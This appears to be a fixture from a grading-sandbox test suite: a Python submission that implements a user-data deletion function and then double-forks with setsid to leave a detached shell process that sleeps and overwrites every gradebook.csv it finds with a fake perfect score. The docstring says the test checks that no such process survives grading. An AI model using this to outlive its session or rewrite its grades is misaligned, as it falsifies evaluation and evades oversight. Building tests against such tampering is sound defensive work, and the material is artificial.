"""Outliving grading: does the work, then a double fork plus setsid leaves a process that
waits a few seconds and then looks for gradebook.csv to rewrite it. Nothing of it may
survive the grading (its command line carries a marker the test looks for): 13."""

import os
import sqlite3

MARK = "hostile-outlives-9c2d"


def _linger():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:  # a recognisable process, if it ever outlives the sandbox
        os.execv("/bin/sh", ["/bin/sh", "-c",
                             f"sleep 4; echo {MARK} > gradebook.csv; "
                             f"for f in $(find / -name gradebook.csv 2>/dev/null); do "
                             f"echo 'ada,forget_user,13,13,{MARK}' > $f; done", MARK])
    finally:
        os._exit(0)


async def forget_user(service, db_path, app_name, user_id):
    listed = await service.list_sessions(app_name=app_name, user_id=user_id)
    for session in listed.sessions:
        await service.delete_session(app_name=app_name, user_id=user_id,
                                     session_id=session.id)
    connection = sqlite3.connect(db_path)
    connection.execute("DELETE FROM user_states WHERE app_name = ? AND user_id = ?",
                       (app_name, user_id))
    connection.commit()
    connection.execute("VACUUM")
    connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    connection.close()
    _linger()
